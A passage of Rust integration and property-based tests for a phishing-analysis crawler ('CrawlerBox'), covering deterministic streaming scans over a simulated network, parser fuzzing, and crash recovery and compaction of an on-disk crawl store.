/// Streaming must be bit-identical to the batch path for every scheduler,
/// with and without caches, including under transient network faults.
#[test]
fn scan_stream_is_bit_identical_to_scan_all_under_faults() {
    let corpus = Corpus::generate(&CorpusSpec::paper().with_scale(0.01), 7);
    corpus
        .world
        .set_fault_plan(cb_netsim::FaultPlan::uniform(99, 0.2));
    let subset: Vec<ReportedMessage> = corpus.messages.iter().take(20).cloned().collect();

    let reference = CrawlerBox::new(&corpus.world)
        .with_scheduler(Scheduler::Serial)
        .with_caching(false)
        .scan_all(&subset);
    let reference_json = serde_json::to_string(&reference).unwrap();

    for scheduler in SCHEDULERS {
        for caching in [false, true] {
            let cbx = CrawlerBox::new(&corpus.world)
                .with_scheduler(scheduler)
                .with_caching(caching)
                .with_stream_capacity(3);
            let mut records: Vec<ScanRecord> = Vec::new();
            let delivered = cbx.scan_stream(subset.iter().cloned(), &mut records);
            assert_eq!(delivered, subset.len());
            assert_eq!(
                serde_json::to_string(&records).unwrap(),
                reference_json,
                "stream diverged from batch ({scheduler:?}, caching {caching})"
            );
        }
    }
}

/// Regression: a message whose site handler panics must yield exactly one
/// degraded record in streaming mode — for every scheduler — without
/// aborting the stream or disturbing its neighbours.
#[test]
fn streaming_panic_degrades_exactly_one_record() {
    for scheduler in SCHEDULERS {
        let net = Internet::new(SimTime::from_ymd(2024, 3, 1));
        net.register_domain("fine.example", "REG");
        net.host("fine.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::html("<p>all good</p>")
        });
        net.register_domain("boom.example", "REG");
        net.host("boom.example", |_: &HttpRequest, _: &NetContext<'_>| {
            panic!("handler exploded")
        });

        let batch: Vec<ReportedMessage> = [
            "see https://fine.example/a",
            "see https://boom.example/kaboom",
            "see https://fine.example/b",
            "see https://fine.example/c",
        ]
        .iter()
        .enumerate()
        .map(|(i, body)| {
            let mut b = MessageBuilder::new();
            b.subject("streamed batch").text_body(body);
            message_from(i, b.build())
        })
        .collect();

        let cbx = CrawlerBox::new(&net)
            .with_scheduler(scheduler)
            .with_stream_capacity(2);
        let mut records: Vec<ScanRecord> = Vec::new();
        let delivered = cbx.scan_stream(batch.clone().into_iter(), &mut records);

        assert_eq!(delivered, batch.len(), "{scheduler:?}: stream truncated");
        for (i, r) in records.iter().enumerate() {
            assert_eq!(r.message_id, i, "{scheduler:?}: order broken");
        }
        let degraded: Vec<&ScanRecord> = records.iter().filter(|r| r.error.is_some()).collect();
        assert_eq!(
            degraded.len(),
            1,
            "{scheduler:?}: exactly one degraded record expected"
        );
        assert_eq!(degraded[0].message_id, 1);
        assert!(
            degraded[0].error.as_deref().unwrap().contains("panic"),
            "{scheduler:?}: provenance missing"
        );

        // A counting sink sees the same shape without retaining records.
        let mut counts = CountingSink::new();
        let cbx2 = CrawlerBox::new(&net)
            .with_scheduler(scheduler)
            .with_stream_capacity(2);
        cbx2.scan_stream(batch.clone().into_iter(), &mut counts);
        assert_eq!(counts.records, batch.len());
        assert_eq!(counts.degraded, 1);
    }
}

/// Every admitted message is counted and the peaks register activity, for
/// all three schedulers, when records are not retained at all.
#[test]
fn streaming_counts_every_message_without_retaining_records() {
    let corpus = Corpus::generate(&CorpusSpec::paper().with_scale(0.01), 3);
    let subset: Vec<ReportedMessage> = corpus.messages.iter().take(12).cloned().collect();
    for scheduler in SCHEDULERS {
        let cbx = CrawlerBox::new(&corpus.world)
            .with_scheduler(scheduler)
            .with_stream_capacity(4);
        let mut sink = CountingSink::new();
        cbx.scan_stream(subset.iter().cloned(), &mut sink);
        let stats = cbx.stats();
        assert_eq!(stats.messages, subset.len() as u64, "{scheduler:?}");
        assert!(stats.peak_in_flight >= 1, "{scheduler:?}");
    }
}
