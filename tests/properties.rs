//! Property-based tests over the core substrates and invariants.

use cb_email::codec::{
    base64_decode, base64_encode, quoted_printable_decode, quoted_printable_encode,
};
use cb_netsim::Url;
use cb_qr::{decode_matrix, encode_bytes, EcLevel};
use cb_stats::Histogram;
use proptest::prelude::*;
use std::sync::OnceLock;

/// A tiny shared corpus for pipeline fuzzing: generated once, scanned many
/// times with mutated message bytes.
fn fuzz_corpus() -> &'static cb_phishgen::Corpus {
    static CORPUS: OnceLock<cb_phishgen::Corpus> = OnceLock::new();
    CORPUS.get_or_init(|| {
        cb_phishgen::Corpus::generate(&cb_phishgen::CorpusSpec::paper().with_scale(0.01), 13)
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn base64_round_trips(data in proptest::collection::vec(any::<u8>(), 0..512)) {
        let encoded = base64_encode(&data);
        prop_assert_eq!(base64_decode(&encoded).unwrap(), data);
    }

    #[test]
    fn quoted_printable_round_trips(data in proptest::collection::vec(any::<u8>(), 0..512)) {
        // QP is line-oriented: normalize bare CR (which QP cannot represent
        // distinctly from CRLF) out of the input.
        let data: Vec<u8> = data.into_iter().filter(|&b| b != b'\r').collect();
        let encoded = quoted_printable_encode(&data);
        let expected: Vec<u8> = data
            .iter()
            .flat_map(|&b| if b == b'\n' { vec![b'\r', b'\n'] } else { vec![b] })
            .collect();
        prop_assert_eq!(quoted_printable_decode(&encoded), expected);
    }

    #[test]
    fn qr_round_trips_any_payload(
        data in proptest::collection::vec(any::<u8>(), 0..200),
        level in prop_oneof![Just(EcLevel::L), Just(EcLevel::M), Just(EcLevel::Q), Just(EcLevel::H)],
    ) {
        if let Ok(symbol) = encode_bytes(&data, level) {
            prop_assert_eq!(decode_matrix(symbol.matrix()).unwrap(), data);
        }
    }

    #[test]
    fn qr_corrects_scattered_damage(
        payload in "[a-z0-9:/.]{10,60}",
        positions in proptest::collection::vec(0usize..10_000, 0..6),
    ) {
        let symbol = encode_bytes(payload.as_bytes(), EcLevel::H).unwrap();
        let mut damaged = symbol.matrix().clone();
        let spots = damaged.data_positions();
        for p in positions {
            let (r, c) = spots[p % spots.len()];
            let v = damaged.get(r, c);
            damaged.set(r, c, !v);
        }
        // ≤6 damaged modules -> at most 6 byte errors, well within H-level
        // correction for small symbols; decoding must not mis-decode.
        if let Ok(decoded) = decode_matrix(&damaged) {
            prop_assert_eq!(decoded, payload.as_bytes());
        }
    }

    #[test]
    fn zip_round_trips_arbitrary_members(
        members in proptest::collection::vec(
            ("[a-zA-Z0-9_./-]{1,24}", proptest::collection::vec(any::<u8>(), 0..256)),
            0..8,
        )
    ) {
        // de-duplicate names (ZIP allows duplicates; our reader keeps both,
        // but equality comparison is simplest on unique names)
        let mut seen = std::collections::HashSet::new();
        let mut zip = cb_artifacts::ZipArchive::new();
        for (name, data) in &members {
            if seen.insert(name.clone()) {
                zip.add(name, data);
            }
        }
        let parsed = cb_artifacts::ZipArchive::parse(&zip.to_bytes()).unwrap();
        prop_assert_eq!(parsed, zip);
    }

    #[test]
    fn url_display_parse_round_trips(
        host in "[a-z][a-z0-9-]{0,20}\\.[a-z]{2,6}",
        path in "(/[a-zA-Z0-9_-]{0,12}){0,4}",
        query in "([a-z]{1,6}=[a-zA-Z0-9]{0,8}(&[a-z]{1,6}=[a-zA-Z0-9]{0,8}){0,3})?",
    ) {
        let s = if query.is_empty() {
            format!("https://{host}{}", if path.is_empty() { "/" } else { &path })
        } else {
            format!("https://{host}{}?{query}", if path.is_empty() { "/" } else { &path })
        };
        let parsed = Url::parse(&s).unwrap();
        prop_assert_eq!(Url::parse(&parsed.to_string()).unwrap(), parsed);
    }

    #[test]
    fn histogram_conserves_observations(
        values in proptest::collection::vec(-50.0f64..200.0, 0..300)
    ) {
        let mut h = Histogram::new(0.0, 90.0, 9);
        h.record_all(values.iter().copied());
        prop_assert_eq!(
            h.total_in_range() + h.underflow + h.overflow,
            values.len() as u64
        );
    }

    #[test]
    fn mjs_lexer_never_panics(src in "\\PC{0,200}") {
        let _ = cb_script::Script::parse(&src);
    }

    #[test]
    fn mime_builder_output_always_parses(
        subject in "[a-zA-Z0-9 ]{0,40}",
        body in "[ -~]{0,300}",
        attach in proptest::collection::vec(any::<u8>(), 0..128),
    ) {
        let mut b = cb_email::MessageBuilder::new();
        b.from("a@x.example")
            .to("b@y.example")
            .subject(&subject)
            .text_body(&body)
            .attach("blob.bin", "application/octet-stream", &attach);
        let raw = b.build();
        let parsed = cb_email::MimeEntity::parse(&raw).unwrap();
        let leaf = parsed
            .leaves()
            .into_iter()
            .find(|l| l.filename().is_some())
            .unwrap();
        prop_assert_eq!(leaf.body_bytes().unwrap(), &attach[..]);
    }

    #[test]
    fn hamming_distance_is_a_metric(a in any::<u64>(), b in any::<u64>(), c in any::<u64>()) {
        let d = cb_stats::hamming64;
        prop_assert_eq!(d(a, b), d(b, a));
        prop_assert_eq!(d(a, a), 0);
        prop_assert!(d(a, c) <= d(a, b) + d(b, c));
    }

    #[test]
    fn strict_url_extraction_implies_lenient(payload in "\\PC{0,80}") {
        use cb_qr::extract::{extract_url_lenient, extract_url_strict};
        let bytes = payload.as_bytes();
        if let Some(strict) = extract_url_strict(bytes) {
            prop_assert_eq!(extract_url_lenient(bytes), Some(strict));
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    #[test]
    fn sim_time_calendar_round_trips(secs in -2_000_000_000i64..4_000_000_000) {
        use cb_sim::SimTime;
        let t = SimTime::from_unix(secs);
        let (y, m, d) = t.ymd();
        let (h, mi, s) = t.hms();
        let back = SimTime::from_ymd_hms(y, m, d, h, mi, s);
        prop_assert_eq!(back, t);
    }

    #[test]
    fn domain_name_invariants(
        labels in proptest::collection::vec("[a-z][a-z0-9-]{0,10}", 1..5),
        tld in prop_oneof![
            Just(".com"), Just(".ru"), Just(".dev"), Just(".br"), Just(".co.uk"),
        ],
    ) {
        use cb_netsim::DomainName;
        let name = format!("{}{}", labels.join("."), tld);
        let d = DomainName::new(&name);
        // the registrable domain is a suffix of the full name
        prop_assert!(name.ends_with(&d.registrable()));
        // the TLD is a suffix of the registrable domain (modulo the
        // multi-label public-suffix collapse to the final label)
        let tld_out = d.tld();
        prop_assert!(tld_out.starts_with('.'));
        prop_assert!(d.registrable().ends_with(tld_out.trim_start_matches('.')));
        // idempotent
        prop_assert_eq!(DomainName::new(d.as_str()).registrable(), d.registrable());
    }

    #[test]
    fn html_parser_never_panics_and_walk_terminates(src in "\\PC{0,400}") {
        let doc = cb_web::Document::parse(&src);
        let _ = doc.walk().len();
        let _ = doc.visible_text();
        let _ = doc.anchor_urls();
    }

    #[test]
    fn scan_pipeline_survives_mutated_raw_messages(
        pick in any::<usize>(),
        mutations in proptest::collection::vec((0usize..4096, any::<u8>()), 0..24),
        truncate_to in proptest::option::of(0usize..4096),
    ) {
        // Byte-level fuzz over the first 4 KiB of real generated messages:
        // neither MIME parsing nor a full CrawlerBox scan may panic, no
        // matter how the wire bytes are flipped or cut short.
        let corpus = fuzz_corpus();
        let message = &corpus.messages[pick % corpus.messages.len()];
        let mut bytes = message.raw.clone().into_bytes();
        for (pos, value) in mutations {
            if bytes.is_empty() {
                break;
            }
            let window = bytes.len().min(4096);
            bytes[pos % window] = value;
        }
        if let Some(t) = truncate_to {
            bytes.truncate(t);
        }
        let raw = String::from_utf8_lossy(&bytes).into_owned();
        let _ = cb_email::MimeEntity::parse(&raw);
        let mut mutated = message.clone();
        mutated.raw = raw;
        let record = crawlerbox::CrawlerBox::new(&corpus.world).scan(&mutated);
        prop_assert_eq!(record.message_id, mutated.id);
    }

    #[test]
    fn describe_is_translation_equivariant(
        xs in proptest::collection::vec(-1e3f64..1e3, 2..64),
        shift in -1e3f64..1e3,
    ) {
        use cb_stats::Describe;
        let a = Describe::of(&xs);
        let shifted: Vec<f64> = xs.iter().map(|x| x + shift).collect();
        let b = Describe::of(&shifted);
        prop_assert!((a.mean + shift - b.mean).abs() < 1e-6);
        prop_assert!((a.stddev - b.stddev).abs() < 1e-6);
        prop_assert!((a.median + shift - b.median).abs() < 1e-6);
    }
}

proptest! {
    // Few cases: each one generates and double-scans a fresh corpus.
    #![proptest_config(ProptestConfig::with_cases(6))]

    #[test]
    fn cached_stealing_scan_is_byte_identical_to_serial_uncached(
        corpus_seed in 0u64..1_000,
        fault_seed in 0u64..1_000,
        fault_rate in prop_oneof![Just(0.0), Just(0.1), Just(0.2), Just(0.3)],
    ) {
        // The tentpole determinism invariant: over random corpora and fault
        // rates (up to 30% transient faults), a work-stealing scan with
        // every cache enabled produces byte-identical records to a serial
        // cache-free scan of the same batch.
        use crawlerbox::{CrawlerBox, Scheduler};
        let corpus = cb_phishgen::Corpus::generate(
            &cb_phishgen::CorpusSpec::paper().with_scale(0.01),
            corpus_seed,
        );
        corpus
            .world
            .set_fault_plan(cb_netsim::FaultPlan::uniform(fault_seed, fault_rate));
        let subset = &corpus.messages[..corpus.messages.len().min(16)];

        let serial = CrawlerBox::new(&corpus.world)
            .with_scheduler(Scheduler::Serial)
            .with_caching(false)
            .scan_all(subset);
        let stealing = CrawlerBox::new(&corpus.world)
            .with_scheduler(Scheduler::WorkStealing)
            .with_caching(true)
            .scan_all(subset);

        prop_assert_eq!(
            serde_json::to_string(&stealing).unwrap(),
            serde_json::to_string(&serial).unwrap()
        );
    }

    #[test]
    fn streamed_scan_is_byte_identical_to_batch(
        corpus_seed in 0u64..1_000,
        fault_seed in 0u64..1_000,
        fault_rate in prop_oneof![Just(0.0), Just(0.1), Just(0.2), Just(0.3)],
        capacity in 1usize..6,
    ) {
        // The streaming pipeline's purity invariant: for every scheduler,
        // caches on or off, and transient fault rates up to 30%, driving
        // the same messages through `scan_stream` yields records
        // byte-identical to a serial cache-free `scan_all` of the batch.
        use crawlerbox::{CrawlerBox, ScanRecord, Scheduler};
        let corpus = cb_phishgen::Corpus::generate(
            &cb_phishgen::CorpusSpec::paper().with_scale(0.01),
            corpus_seed,
        );
        corpus
            .world
            .set_fault_plan(cb_netsim::FaultPlan::uniform(fault_seed, fault_rate));
        let subset = &corpus.messages[..corpus.messages.len().min(16)];

        let reference = CrawlerBox::new(&corpus.world)
            .with_scheduler(Scheduler::Serial)
            .with_caching(false)
            .scan_all(subset);
        let reference_json = serde_json::to_string(&reference).unwrap();

        for scheduler in [Scheduler::Serial, Scheduler::StaticChunk, Scheduler::WorkStealing] {
            for caching in [false, true] {
                let cbx = CrawlerBox::new(&corpus.world)
                    .with_scheduler(scheduler)
                    .with_caching(caching)
                    .with_stream_capacity(capacity);
                let mut streamed: Vec<ScanRecord> = Vec::new();
                let delivered = cbx.scan_stream(subset.iter().cloned(), &mut streamed);
                prop_assert_eq!(delivered, subset.len());
                let bound = (cbx.stream_capacity() + cbx.parallelism) as u64;
                prop_assert!(cbx.stats().peak_in_flight <= bound);
                prop_assert_eq!(
                    serde_json::to_string(&streamed).unwrap(),
                    reference_json.clone(),
                    "diverged for {:?} caching {}", scheduler, caching
                );
            }
        }
    }
}


/// Regression seeds promoted out of `properties.proptest-regressions` into
/// named, always-run tests: the seed file only replays on machines that
/// have it checked out AND run the owning property, while a named test runs
/// everywhere, shows up in test output by name, and survives the seed file
/// being pruned.
mod regressions {
    /// Found by `mjs_lexer_never_panics` (seed `afe1d572…`): the input
    /// shrank to an unterminated single-quoted string whose trailing
    /// backslash escapes an astral-plane character (U+10594), so the lexer
    /// must step over a multi-byte UTF-8 escape at end-of-input without
    /// slicing mid-codepoint or running past the buffer.
    #[test]
    fn mjs_lexer_handles_trailing_escaped_astral_char() {
        let _ = cb_script::Script::parse("'\\\u{10594}");
    }

    /// The same shape with more escape/terminator permutations at the end
    /// of the input, so near-miss variants stay covered too.
    #[test]
    fn mjs_lexer_handles_truncated_string_escapes() {
        for src in [
            "'\\",            // escape then EOF
            "\"\\\u{10594}",  // double-quoted variant
            "'\\\u{10594}'",  // terminated after the astral escape
            "`\\\u{10594}",   // template-literal variant
            "'\\\u{7f}",      // escaped ASCII control at EOF
        ] {
            let _ = cb_script::Script::parse(src);
        }
    }
}
