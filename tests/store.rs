//! End-to-end tests for the persistent crawl store: on-disk byte
//! determinism across schedulers and cache settings, torn-tail crash
//! recovery with incremental re-scan, blob dedup and orphan GC, shard
//! quarantine + repair degradation, v1 layout migration, compaction,
//! campaign clustering from disk, and the `crawl-log store` /
//! `repro --store` CLI surfaces.

use cb_artifacts::fingerprint;
use cb_phishgen::{Corpus, CorpusSpec, MessageClass, ReportedMessage};
use cb_sim::SimTime;
use cb_store::{encode_record, shard_of, EncodedStoreSink, Store, StoreEncoder, StoreOptions, StoreSink};
use crawlerbox::{ArtifactKind, CapturedArtifact, CrawlerBox, RecordSink, ScanRecord, Scheduler};
use std::path::{Path, PathBuf};
use std::process::Command;

const SCHEDULERS: [Scheduler; 3] = [
    Scheduler::Serial,
    Scheduler::StaticChunk,
    Scheduler::WorkStealing,
];

/// A per-test scratch directory under the OS temp dir (the workspace has
/// no tempfile dependency); removed eagerly at the start so a crashed
/// earlier run never leaks state into this one.
fn scratch(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("cb-store-it-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

fn corpus_subset(seed: u64, n: usize) -> (Corpus, Vec<ReportedMessage>) {
    let corpus = Corpus::generate(&CorpusSpec::paper().with_scale(0.01), seed);
    let subset = corpus.messages.iter().take(n).cloned().collect();
    (corpus, subset)
}

/// One-shard options: tests that reason about "the last record in the
/// log" or exact segment paths pin the layout to a single shard.
fn one_shard() -> StoreOptions {
    StoreOptions { shards: 1, ..StoreOptions::default() }
}

/// Raw bytes of every segment file across every shard's active
/// generation, in (shard, segment) order — the strongest possible
/// determinism witness for the v2 layout.
fn segment_bytes(root: &Path) -> Vec<Vec<u8>> {
    let mut shards: Vec<String> = std::fs::read_dir(root)
        .unwrap()
        .filter_map(|e| e.unwrap().file_name().into_string().ok())
        .filter(|n| n.starts_with("shard-"))
        .collect();
    shards.sort();
    let mut out = Vec::new();
    for shard in shards {
        let shard_dir = root.join(&shard);
        let generation = std::fs::read_to_string(shard_dir.join("CURRENT")).unwrap();
        let seg_dir = shard_dir.join(generation.trim());
        let mut segments: Vec<String> = std::fs::read_dir(&seg_dir)
            .unwrap()
            .filter_map(|e| e.unwrap().file_name().into_string().ok())
            .collect();
        segments.sort();
        for seg in segments {
            out.push(std::fs::read(seg_dir.join(seg)).unwrap());
        }
    }
    out
}

fn synthetic_record(id: usize, hash: u128, class: MessageClass) -> ScanRecord {
    ScanRecord {
        message_id: id,
        content_hash: hash,
        delivered_at: SimTime::EPOCH,
        auth_pass: false,
        extracted: Vec::new(),
        visits: Vec::new(),
        body_bytes: 10,
        blank_line_run: 0,
        class,
        error: None,
        artifacts: Vec::new(),
    }
}

/// A content hash whose top byte routes it to shard `shard` of `n`.
fn hash_in_shard(shard: usize, n: usize, salt: u128) -> u128 {
    for top in 0u128..256 {
        let h = (top << 120) | (salt & ((1u128 << 120) - 1));
        if shard_of(h, n) == shard {
            return h;
        }
    }
    unreachable!("every shard owns at least one top byte");
}

/// The tentpole acceptance check: streaming a corpus through `StoreSink`
/// writes byte-identical segment files for every scheduler, with caches on
/// or off, and the payloads read back equal to the canonical encoding of
/// an in-memory reference capture (grouped by shard, delivery order within
/// each shard). Reopening the store reproduces the same log with a clean
/// verify.
#[test]
fn store_round_trip_is_byte_identical_across_configs() {
    let (corpus, subset) = corpus_subset(11, 24);
    let mut reference: Vec<ScanRecord> = Vec::new();
    CrawlerBox::new(&corpus.world)
        .with_scheduler(Scheduler::Serial)
        .with_caching(false)
        .with_artifact_capture(true)
        .with_stream_capacity(4)
        .scan_stream(subset.iter().cloned(), &mut reference);
    assert_eq!(reference.len(), subset.len());
    assert!(
        reference.iter().any(|r| !r.artifacts.is_empty()),
        "capture should attach at least message artifacts"
    );
    let shards = StoreOptions::default().shards;
    let mut expected: Vec<Vec<u8>> = Vec::new();
    for shard in 0..shards {
        for r in &reference {
            if shard_of(r.content_hash, shards) == shard {
                expected.push(serde_json::to_vec(r).unwrap());
            }
        }
    }

    let mut golden: Option<Vec<Vec<u8>>> = None;
    for scheduler in SCHEDULERS {
        for caching in [false, true] {
            let dir = scratch(&format!("rt-{scheduler:?}-{caching}"));
            let cbx = CrawlerBox::new(&corpus.world)
                .with_scheduler(scheduler)
                .with_caching(caching)
                .with_artifact_capture(true)
                .with_stream_capacity(4);
            let mut sink = StoreSink::new(Store::open(&dir).unwrap());
            let delivered = cbx.scan_stream(subset.iter().cloned(), &mut sink);
            assert_eq!(delivered, subset.len(), "{scheduler:?} caching {caching}");
            assert_eq!(sink.appended(), subset.len());
            let (mut store, ()) = sink.finish().unwrap();
            assert_eq!(store.shard_count(), shards);
            assert_eq!(
                store.read_payloads().unwrap(),
                expected,
                "payloads diverged ({scheduler:?}, caching {caching})"
            );
            drop(store);

            let mut reopened = Store::open(&dir).unwrap();
            assert!(reopened.recovery().torn.is_empty());
            assert!(reopened.recovery().quarantined.is_empty());
            assert_eq!(reopened.len(), subset.len());
            assert_eq!(
                reopened.read_payloads().unwrap(),
                expected,
                "reopen replay diverged ({scheduler:?}, caching {caching})"
            );
            assert!(reopened.verify().unwrap().is_clean());

            let bytes = segment_bytes(&dir);
            match &golden {
                None => golden = Some(bytes),
                Some(g) => assert_eq!(
                    &bytes, g,
                    "on-disk segment bytes diverged ({scheduler:?}, caching {caching})"
                ),
            }
            std::fs::remove_dir_all(&dir).unwrap();
        }
    }
}

/// The group-commit tentpole acceptance: the encoded ingest path
/// (worker-side encoding via `StoreEncoder`, batched appends via
/// `EncodedStoreSink`, parallel per-shard fan-out in `append_batch`)
/// writes segment files byte-identical to the owned-record `StoreSink`
/// oracle for every scheduler × commit batch × shard count, with durable
/// ingest on — and at batch ≥ 16 the barrier is amortized to well under
/// one fsync per record.
#[test]
fn encoded_ingest_is_byte_identical_to_oracle_across_batches() {
    let (corpus, subset) = corpus_subset(13, 16);
    for shards in [1usize, 4, 8] {
        // Oracle: a serial scan through the owned-record reference sink.
        let oracle_dir = scratch(&format!("enc-oracle-{shards}"));
        let opts = StoreOptions { shards, ..StoreOptions::default() };
        let cbx = CrawlerBox::new(&corpus.world)
            .with_scheduler(Scheduler::Serial)
            .with_artifact_capture(true)
            .with_stream_capacity(4);
        let mut sink = StoreSink::new(Store::open_with(&oracle_dir, opts).unwrap());
        cbx.scan_stream(subset.iter().cloned(), &mut sink);
        let (_store, ()) = sink.finish().unwrap();
        let golden = segment_bytes(&oracle_dir);

        for scheduler in SCHEDULERS {
            for batch in [1usize, 16, 256] {
                let dir = scratch(&format!("enc-{shards}-{scheduler:?}-{batch}"));
                let opts = StoreOptions {
                    shards,
                    fsync_each_append: true,
                    commit_batch: batch,
                    ..StoreOptions::default()
                };
                let cbx = CrawlerBox::new(&corpus.world)
                    .with_scheduler(scheduler)
                    .with_artifact_capture(true)
                    .with_stream_capacity(4);
                let mut sink = EncodedStoreSink::new(Store::open_with(&dir, opts).unwrap());
                let delivered =
                    cbx.scan_stream_encoded(subset.iter().cloned(), &StoreEncoder, &mut sink);
                assert_eq!(delivered, subset.len(), "{shards} {scheduler:?} {batch}");
                assert_eq!(sink.dropped(), 0);
                let (store, ()) = sink.finish().unwrap();
                let stats = store.stats();
                assert_eq!(stats.appended, subset.len() as u64);
                assert_eq!(stats.acked, subset.len() as u64, "finish acks everything");
                assert_eq!(stats.pending, 0);
                if batch >= 16 {
                    assert!(
                        stats.fsyncs < stats.appended,
                        "group commit must amortize fsyncs: {} fsyncs / {} records \
                         ({shards} shards, batch {batch})",
                        stats.fsyncs,
                        stats.appended,
                    );
                }
                drop(store);
                assert_eq!(
                    segment_bytes(&dir),
                    golden,
                    "encoded log diverged from oracle \
                     ({shards} shards, {scheduler:?}, batch {batch})"
                );
                std::fs::remove_dir_all(&dir).unwrap();
            }
        }
        std::fs::remove_dir_all(&oracle_dir).unwrap();
    }
}

/// Group-commit ack semantics: in durable ingest mode a record is acked
/// only once a barrier covering it completes — `commit_batch` records
/// accumulate pending, then one barrier acks the whole window at once.
#[test]
fn group_commit_acks_records_only_at_batch_barriers() {
    let dir = scratch("ack");
    let opts = StoreOptions {
        shards: 1,
        fsync_each_append: true,
        commit_batch: 4,
        ..StoreOptions::default()
    };
    let mut store = Store::open_with(&dir, opts).unwrap();
    for id in 0..3usize {
        let mut r = synthetic_record(id, id as u128 + 1, MessageClass::NoResource);
        store.append_batch(vec![encode_record(&mut r).unwrap()]).unwrap();
    }
    assert_eq!(store.pending_appends(), 3, "below the batch size nothing commits");
    assert_eq!(store.acked_appends(), 0);

    let mut r = synthetic_record(3, 4, MessageClass::ErrorPage);
    store.append_batch(vec![encode_record(&mut r).unwrap()]).unwrap();
    assert_eq!(store.pending_appends(), 0, "the 4th record trips the barrier");
    assert_eq!(store.acked_appends(), 4);
    let stats = store.stats();
    assert_eq!(stats.commit_batches, 1);

    // An explicit sync acks a partial window too.
    let mut r = synthetic_record(4, 5, MessageClass::Download);
    store.append_batch(vec![encode_record(&mut r).unwrap()]).unwrap();
    assert_eq!(store.pending_appends(), 1);
    store.sync().unwrap();
    assert_eq!((store.pending_appends(), store.acked_appends()), (0, 5));
    assert_eq!(store.stats().commit_batches, 2);
    std::fs::remove_dir_all(&dir).unwrap();
}

/// Property: batch size never changes the bytes — appending the same
/// records (duplicates included) one-by-one or as one big batch yields
/// bit-identical logs, before *and after* compaction, and the rewritten
/// generation still serves point payload fetches from the right offsets.
#[test]
fn batch_one_and_batch_256_logs_identical_after_compaction() {
    let shards = 4usize;
    let records: Vec<ScanRecord> = (0..20usize)
        .map(|id| {
            // `id % 8` fixes both the shard (8 ≡ 0 mod 4) and the salt,
            // so ids 8.. reuse earlier content hashes and compaction
            // actually drops duplicates: 8 distinct hashes in 20 records.
            let hash = hash_in_shard(id % shards, shards, (id % 8) as u128 + 1);
            synthetic_record(id, hash, MessageClass::ActivePhish)
        })
        .collect();

    let mut dirs = Vec::new();
    for batch in [1usize, 256] {
        let dir = scratch(&format!("cbatch-{batch}"));
        let opts = StoreOptions {
            shards,
            fsync_each_append: true,
            commit_batch: batch,
            ..StoreOptions::default()
        };
        let mut store = Store::open_with(&dir, opts).unwrap();
        let encoded: Vec<_> = records
            .iter()
            .map(|r| encode_record(&mut r.clone()).unwrap())
            .collect();
        if batch == 1 {
            for enc in encoded {
                store.append_batch(vec![enc]).unwrap();
            }
        } else {
            store.append_batch(encoded).unwrap();
        }
        store.sync().unwrap();

        // Point fetches agree with the bulk read, in caller key order.
        let mut keys = Vec::new();
        for sid in 0..store.shard_count() {
            for seq in 0..store.shard(sid).unwrap().len() {
                keys.push((sid, seq));
            }
        }
        let bulk = store.read_payloads().unwrap();
        assert_eq!(store.fetch_payloads(&keys).unwrap(), bulk);
        keys.reverse();
        let mut reversed = store.fetch_payloads(&keys).unwrap();
        reversed.reverse();
        assert_eq!(reversed, bulk, "fetch scatters results back to key order");

        let report = store.compact().unwrap();
        assert_eq!(report.dropped, 12, "duplicate hashes compact away");
        // Fetches keep working against the rewritten generation.
        let mut keys = Vec::new();
        for sid in 0..store.shard_count() {
            for seq in 0..store.shard(sid).unwrap().len() {
                keys.push((sid, seq));
            }
        }
        assert_eq!(store.fetch_payloads(&keys).unwrap(), store.read_payloads().unwrap());
        assert!(store.verify().unwrap().is_clean());
        drop(store);
        dirs.push(dir);
    }
    assert_eq!(
        segment_bytes(&dirs[0]),
        segment_bytes(&dirs[1]),
        "batch=1 and batch=256 logs must be bit-identical after compaction"
    );
    for dir in dirs {
        std::fs::remove_dir_all(&dir).unwrap();
    }
}

/// Dirty-shard tracking satellite: a sync after a read-only window is
/// free — clean shards are skipped, so `store.fsync.calls` stays flat.
#[test]
fn sync_after_read_only_window_performs_zero_fsyncs() {
    let dir = scratch("cleansync");
    let mut store = Store::open_with(&dir, one_shard()).unwrap();
    for id in 0..4usize {
        store.append(&synthetic_record(id, id as u128 + 1, MessageClass::NoResource)).unwrap();
    }
    store.sync().unwrap();
    let after_write = store.stats().fsyncs;
    assert!(after_write > 0, "the dirty shard must fsync at least once");

    // A read-only window: queries touch no writer state.
    let _ = store.read_payloads().unwrap();
    let _ = store.campaigns();
    assert!(store.contains_hash(1));
    store.sync().unwrap();
    store.sync().unwrap();
    assert_eq!(store.stats().fsyncs, after_write, "clean shards cost zero fsyncs");

    // The next append re-dirties the shard; sync fsyncs again.
    store.append(&synthetic_record(9, 99, MessageClass::Download)).unwrap();
    store.sync().unwrap();
    assert!(store.stats().fsyncs > after_write);
    std::fs::remove_dir_all(&dir).unwrap();
}

/// Poison-surfacing satellite: a failed append poisons the sink, later
/// records are dropped (and counted), and the store's `append_errors`
/// counter surfaces the failure in `stats()`.
#[test]
fn poisoned_sink_surfaces_drop_count_and_error_counter() {
    let dir = scratch("poison");
    let shards = 4usize;
    let opts = StoreOptions { segment_target_bytes: 1, shards, ..StoreOptions::default() };
    let mut store = Store::open_with(&dir, opts).unwrap();
    for id in 0..2usize {
        let h = hash_in_shard(1, shards, id as u128 + 10);
        store.append(&synthetic_record(id, h, MessageClass::NoResource)).unwrap();
    }
    store.sync().unwrap();
    drop(store);
    // Corrupt an interior segment of shard 1 so it reopens quarantined.
    let seg0 = dir.join("shard-01").join("segments-00000").join("seg-00000.cbl");
    let mut bytes = std::fs::read(&seg0).unwrap();
    let at = bytes.len() - 2;
    bytes[at] ^= 0xFF;
    std::fs::write(&seg0, &bytes).unwrap();

    let store = Store::open(&dir).unwrap();
    assert!(store.is_degraded());
    let mut sink = StoreSink::new(store);
    // First record routes to the quarantined shard: append fails, the
    // sink poisons. The next two are dropped without touching the store.
    for id in 0..3usize {
        sink.accept(synthetic_record(20 + id, hash_in_shard(1, shards, 500 + id as u128), MessageClass::Download));
    }
    assert_eq!(sink.appended(), 0);
    assert_eq!(sink.dropped(), 3);
    assert!(sink.error().is_some());
    assert_eq!(sink.store().stats().append_errors, 1, "one failed append, not three");
